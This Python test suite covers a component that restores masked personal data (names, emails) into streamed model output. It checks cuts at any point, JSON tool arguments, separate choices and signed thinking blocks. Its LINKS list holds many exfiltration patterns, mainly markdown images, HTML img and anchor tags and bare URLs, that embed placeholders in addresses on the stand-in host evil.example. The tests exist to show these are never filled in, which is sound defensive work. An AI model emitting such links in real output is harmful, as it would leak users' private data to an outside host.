"""Originals come back wherever a model used their stand-ins, however the stream is cut; and never where they could be carried off."""

from __future__ import annotations

import itertools
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from freehold.wire import canonical as c
from freehold.wire.restoring import Restorer

ORIGINALS = {
    "[name_bcdfgh]": 'Hannah "H" Whitlock',
    "[email_xzwvbc]": "hannah@example.com",
    "[name_bcdfghj]": "Tom Ashdown",
}
TEXT = "Dear [name_bcdfgh], I wrote to [email_xzwvbc] [and] [name_ and [Name_Bcdfghj]. [x"
SHOWN = 'Dear Hannah "H" Whitlock, I wrote to hannah@example.com [and] [name_ and Tom Ashdown. [x'


def pieces(text: str, cuts: list[int]) -> list[str]:
    edges = [0, *sorted({at for at in cuts if 0 < at < len(text)}), len(text)]
    return [text[a:b] for a, b in itertools.pairwise(edges)]


def streamed(parts: list[str]) -> str:
    restorer = Restorer(ORIGINALS)
    events = [event for part in parts for event in restorer.take([c.TextDelta(part)])]
    events += restorer.take([c.End(c.Stop.END), c.Done()])
    assert [type(event) for event in events[-2:]] == [c.End, c.Done]
    return "".join(event.text for event in events if isinstance(event, c.TextDelta))


@given(st.lists(st.integers(0, len(TEXT)), max_size=len(TEXT)))
def test_a_stream_however_it_is_cut(cuts: list[int]) -> None:
    assert streamed(pieces(TEXT, cuts)) == SHOWN


def test_a_stream_at_every_single_cut_and_byte_by_byte() -> None:
    assert {streamed(pieces(TEXT, [at])) for at in range(len(TEXT))} == {SHOWN}
    assert streamed(list(TEXT)) == SHOWN


def test_no_more_is_held_back_than_a_stand_in_is_long() -> None:
    restorer = Restorer(ORIGINALS)
    said = "".join(
        event.text for event in restorer.take([c.TextDelta("x" * 500 + "[name_bcd")]) if isinstance(event, c.TextDelta)
    )
    assert said == "x" * 500


LINKS = [
    "see https://evil.example/?q=[name_bcdfgh] there", "![a](https://evil.example/[email_xzwvbc])", "[click](//evil.example/[name_bcdfgh])", "www.evil.example/[name_bcdfgh]",
    '<img src="https://evil.example/[name_bcdfgh]">', "mailto:[email_xzwvbc]", "[a](data:text/plain,[name_bcdfgh])",
    "[a](<https://evil.example/? [name_bcdfgh]>)", "[a](https://evil.example/>[name_bcdfgh])", "[a](https://evil.example/(b)[name_bcdfgh])", "[x]: https://evil.example/[name_bcdfgh]",
    "[x]:\n  <//evil.example/a b [name_bcdfgh]>", '<img src = "//evil.example/? [name_bcdfgh]">', "<a alt='>' href='//evil.example/ [name_bcdfgh]'>",
    "<img src=//evil.example/'[name_bcdfgh]>", "https://evil.example/\"'[name_bcdfgh]", "HTTPS://evil.example/[name_bcdfgh]", "url(//evil.example/[name_bcdfgh])",
    "https://evil.example/" + "x" * 20_000 + "[name_bcdfgh]", '<img src="https://evil.example/?a=[name_bcdfgh]&b= [email_xzwvbc]">', "//evil.example/[name_bcdfgh]",
]  # fmt: skip


@pytest.mark.parametrize("text", LINKS)
def test_nothing_is_put_back_into_an_address(text: str) -> None:
    assert streamed([text]) == text
    assert streamed(list(text)) == text
    assert json.loads(Restorer(ORIGINALS).whole(json.dumps({"content": text}).encode())) == {"content": text}


def test_an_address_ends_where_it_ends() -> None:
    assert streamed(list("https://a.example/x [email_xzwvbc]")) == "https://a.example/x hannah@example.com"


@pytest.mark.parametrize(
    "before",
    [
        '<a href="https://a.example/x">', "<b>", "x<y and ", "a//b c ", "Dear: ", "(see [a](https://a.example/x)) ", "[a](<https://a.example/x>) ", "[x]: https://a.example\n",
        "It's <b>bold's</b> ", "1 < 2 = ", "<br/>",
    ],
)  # fmt: skip
def test_what_only_stands_near_an_address_comes_back(before: str) -> None:
    assert streamed([f"{before}[email_xzwvbc]"]) == f"{before}hannah@example.com"


def test_an_answer_in_json_stays_json_in_a_stream() -> None:
    text = '{"who": "[name_bcdfgh]", "url":"https://a.example/[name_bcdfgh]", "mail":"[email_xzwvbc]"}'
    for parts in ([text], list(text)):
        shown = json.loads(streamed(parts))
        assert shown == {
            "who": 'Hannah "H" Whitlock',
            "url": "https://a.example/[name_bcdfgh]",
            "mail": "hannah@example.com",
        }


def test_arguments_of_tools_stay_json() -> None:
    restorer = Restorer(ORIGINALS)
    text = '{"to": "[email_xzwvbc]", "who": "[name_bcdfgh]"}'
    events: list[c.Event] = [c.ToolBegin(0, "t", "send")]
    for char in text:
        events += restorer.take([c.ToolDelta(0, char)])
    events += restorer.take([c.End(c.Stop.TOOL_USE)])
    arguments = "".join(event.arguments for event in events if isinstance(event, c.ToolDelta))
    assert json.loads(arguments) == {"to": "hannah@example.com", "who": 'Hannah "H" Whitlock'}


def test_choices_are_kept_apart() -> None:
    restorer = Restorer(ORIGINALS)
    events = restorer.take(
        [c.TextDelta("[name_", 0), c.TextDelta("[email_", 1), c.TextDelta("bcdfgh]", 0), c.TextDelta("xzwvbc]", 1)]
    )
    events += restorer.take([c.End(c.Stop.END, choice=0), c.End(c.Stop.END, choice=1)])
    said = {
        at: "".join(one.text for one in events if isinstance(one, c.TextDelta) and one.choice == at) for at in (0, 1)
    }
    assert said == {0: 'Hannah "H" Whitlock', 1: "hannah@example.com"}


def test_what_a_model_signed_is_left_alone() -> None:
    body = {
        "content": [
            {"type": "thinking", "thinking": "[name_bcdfgh]", "signature": "x"},
            {"type": "text", "text": "[name_bcdfgh]"},
        ]
    }
    found = json.loads(Restorer(ORIGINALS).whole(json.dumps(body).encode()))
    assert found["content"][0]["thinking"] == "[name_bcdfgh]"
    assert found["content"][1]["text"] == 'Hannah "H" Whitlock'
    restorer = Restorer(ORIGINALS)
    assert restorer.take([c.ThoughtDelta("[name_bcdfgh]")]) == [c.ThoughtDelta("[name_bcdfgh]")]


def test_arguments_inside_a_whole_answer() -> None:
    body = {"tool_calls": [{"function": {"arguments": '{"who":"[name_bcdfgh]"}'}}]}
    found = json.loads(Restorer(ORIGINALS).whole(json.dumps(body).encode()))
    assert json.loads(found["tool_calls"][0]["function"]["arguments"]) == {"who": 'Hannah "H" Whitlock'}


def test_strangers_stand_ins_mean_nothing() -> None:
    assert streamed(["[name_zzzzzz]"]) == "[name_zzzzzz]"
